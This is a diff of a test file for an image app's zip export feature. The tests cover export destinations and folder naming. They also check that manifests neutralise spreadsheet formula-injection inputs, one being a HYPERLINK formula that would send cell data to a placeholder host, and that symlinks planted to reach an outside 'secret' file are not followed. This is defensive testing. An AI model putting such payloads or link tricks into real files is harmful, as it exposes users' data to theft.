@@ -1,5 +1,14 @@
-import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
-import { writeFileSync } from 'node:fs';
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  realpathSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -82,9 +91,9 @@ describe('exports', () => {
   it('writes a selection, in its order, into a zip with a manifest of its metadata', async () => {
     const ids = await makeLibrary();
     const chosen = [ids[3]!, ids[0]!, ids[2]!];
-    const dest = path.join(dir, 'out', 'chosen.zip');
-    const started = await api.exports.start({ source: { ids: chosen }, destination: dest });
-    expect(started).toMatchObject({ id: expect.any(String), path: dest, total: 3 });
+    const started = await api.exports.start({ source: { ids: chosen } });
+    expect(started).toMatchObject({ id: expect.any(String), path: expect.any(String), total: 3 });
+    const dest = started.path!;
     await ended(started.id!);
 
     const entries = await readZip(dest);
@@ -125,7 +134,7 @@ describe('exports', () => {
     const mine = progress.filter((p) => p.id === started.id);
     expect(mine[0]).toMatchObject({ state: 'running', done: 0, total: 3 });
     expect(mine.at(-1)).toEqual(last);
-    expect(readdirSync(path.dirname(dest))).toEqual(['chosen.zip']); // no part file left
+    expect(readdirSync(path.dirname(dest))).toEqual([path.basename(dest)]); // no part file left
     // canceling one that ended changes nothing
     expect(await api.exports.cancel({ id: started.id! })).toBeNull();
     expect(await api.exports.get({ id: started.id! })).toEqual(last);
@@ -163,11 +172,8 @@ describe('exports', () => {
     const ids = await makeLibrary();
     const gone = await api.images.get({ id: ids[1]! });
     rmSync(gone.path!);
-    const dest = path.join(dir, 'some.zip');
-    const started = await api.exports.start({
-      source: { ids: ids.slice(0, 3) },
-      destination: dest,
-    });
+    const started = await api.exports.start({ source: { ids: ids.slice(0, 3) } });
+    const dest = started.path!;
     await ended(started.id!);
     expect(await api.exports.get({ id: started.id! })).toMatchObject({ state: 'done', done: 3 });
     const entries = await readZip(dest);
@@ -181,20 +187,16 @@ describe('exports', () => {
     });
   });
 
-  it('refuses a relative destination and one that exists; unknown ids are not found', async () => {
+  it('refuses a destination named by the caller; unknown ids are not found', async () => {
     const ids = await makeLibrary();
+    const elsewhere = path.join(dir, 'elsewhere.zip');
     await expect(
-      api.exports.start({ source: { ids }, destination: 'out.zip' }),
+      api.exports.start({ source: { ids }, destination: elsewhere } as never),
     ).rejects.toMatchObject({
       code: 'invalid-argument',
-      message: expect.stringContaining('absolute'),
+      message: expect.stringContaining('the page cannot choose where a zip is written'),
     });
-    const taken = path.join(dir, 'taken.zip');
-    writeFileSync(taken, 'mine');
-    await expect(api.exports.start({ source: { ids }, destination: taken })).rejects.toMatchObject({
-      code: 'conflict',
-    });
-    expect(readFileSync(taken, 'utf8')).toBe('mine');
+    expect(existsSync(elsewhere)).toBe(false);
     await expect(api.exports.get({ id: 'nope' })).rejects.toMatchObject({ code: 'not-found' });
     await expect(api.exports.cancel({ id: 'nope' })).rejects.toMatchObject({ code: 'not-found' });
   });
@@ -220,5 +222,101 @@ describe('exports', () => {
     expect(started).toMatchObject({ path: path.join(dir, 'picked.zip'), total: 5 });
     await ended(started.id!);
     expect(existsSync(path.join(dir, 'picked.zip'))).toBe(true);
+    // a file chosen in the dialog, which asked about replacing it: replaced
+    const older = path.join(dir, 'older.zip');
+    writeFileSync(older, 'an older export');
+    answers.push(older);
+    const again = await api.exports.start({ source: { ids } });
+    await ended(again.id!);
+    expect(await api.exports.get({ id: again.id! })).toMatchObject({ state: 'done' });
+    expect((await readZip(older)).map((e) => e.name)).toContain('manifest.csv');
+  });
+
+  it('neutralises spreadsheet formulas in the export manifest and the batch manifest.csv', async () => {
+    const formula = '=HYPERLINK("http://x/?"&A1,"open")';
+    const finished = until((events) => events.some((e) => e.type === 'batch.finished'));
+    await service.startQueue();
+    const batch = await api.batches.create({
+      source: { kind: 'rows', rows: [{ prompt: formula }, { prompt: '@SUM(A1:A9)' }] },
+      name: '+cmd',
+      defaults: { model: 'flux-schnell', size: '256x256', response_format: 'b64_json' },
+      position: 'back',
+    });
+    await finished;
+    const started = await api.exports.start({ source: { query: {} } });
+    await ended(started.id!);
+    const { rows } = manifestOf(await readZip(started.path!));
+    expect(rows.map((r) => r.prompt).sort()).toEqual([`'${formula}`, "'@SUM(A1:A9)"]);
+    expect(rows.every((r) => r.batch === "'+cmd")).toBe(true);
+    const { folder } = await api.batches.get({ id: batch.id });
+    const written = parseCsv(readFileSync(path.join(folder, 'manifest.csv'), 'utf8'));
+    const prompt = written[0]!.indexOf('prompt');
+    expect(
+      written
+        .slice(1)
+        .map((r) => r[prompt])
+        .sort(),
+    ).toEqual([`'${formula}`, "'@SUM(A1:A9)"]);
+  });
+
+  it('keeps its folder apart from the batches: a batch named "Exports" gets another', async () => {
+    await makeLibrary();
+    const finished = until((events) => events.some((e) => e.type === 'batch.finished'));
+    const batch = await api.batches.create({
+      source: { kind: 'rows', rows: [{ prompt: 'a heron' }] },
+      name: 'Exports',
+      defaults: { model: 'flux-schnell', size: '256x256', response_format: 'b64_json' },
+      position: 'back',
+    });
+    await finished;
+    expect((await api.batches.get({ id: batch.id })).dirName).toBe('Exports~2');
+    const started = await api.exports.start({ source: { query: {} } });
+    expect(path.dirname(started.path!)).toBe(path.join(dir, 'library', 'Exports'));
+    await ended(started.id!);
+    expect(
+      readdirSync(path.join(dir, 'library', 'Exports~2')).some((f) => f.endsWith('.zip')),
+    ).toBe(false);
+  });
+
+  it('writes beside a batch that a former Atelier let take the "Exports" folder', async () => {
+    const ids = await makeLibrary();
+    service.store.db
+      .prepare(
+        `INSERT INTO batches (name, dir_name, dir_key, created_at) VALUES ('Exports', 'Exports', 'exports', 1)`,
+      )
+      .run();
+    const started = await api.exports.start({ source: { ids } });
+    expect(path.dirname(started.path!)).toBe(path.join(dir, 'library', 'Exports~2'));
+    await ended(started.id!);
+  });
+
+  it('follows no link planted as the Exports folder, and packs no file linked from outside', async () => {
+    const ids = await makeLibrary();
+    const outside = path.join(dir, 'outside');
+    mkdirSync(outside);
+    writeFileSync(path.join(outside, 'secret.txt'), 'the secret');
+    // an image replaced by a link to a file outside the library
+    const image = await api.images.get({ id: ids[0]! });
+    rmSync(image.path!);
+    symlinkSync(path.join(outside, 'secret.txt'), image.path!);
+    const started = await api.exports.start({ source: { ids } });
+    await ended(started.id!);
+    const entries = await readZip(started.path!);
+    expect(entries).toHaveLength(5);
+    expect(entries.some((e) => e.data.toString().includes('the secret'))).toBe(false);
+    const { rows } = manifestOf(entries);
+    expect(rows.find((r) => r.image_id === String(ids[0]))).toMatchObject({
+      file: '',
+      note: `not in the zip: ${image.relPath} leads outside the library, to ${realpathSync(path.join(outside, 'secret.txt'))}`,
+    });
+
+    // the Exports folder itself a link out: nothing is written there
+    rmSync(path.join(dir, 'library', 'Exports'), { recursive: true });
+    symlinkSync(outside, path.join(dir, 'library', 'Exports'));
+    await expect(api.exports.start({ source: { ids } })).rejects.toMatchObject({
+      code: 'disk',
+      message: expect.stringMatching(/Refusing to write exports into .*Exports: a link .* outside/),
+    });
+    expect(readdirSync(outside)).toEqual(['secret.txt']);
   });
 });
